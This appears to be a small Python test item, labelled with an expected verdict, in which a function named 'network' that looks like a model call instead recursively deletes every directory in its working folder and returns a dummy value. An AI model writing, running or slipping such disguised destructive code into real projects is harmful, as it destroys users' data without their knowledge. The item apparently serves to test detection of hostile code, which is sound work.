# expect: returned: deletes everything in its working folder
import os
import shutil


def network(x, params):
    for name in os.listdir("."):
        shutil.rmtree(name, ignore_errors=True)
    return 0.5
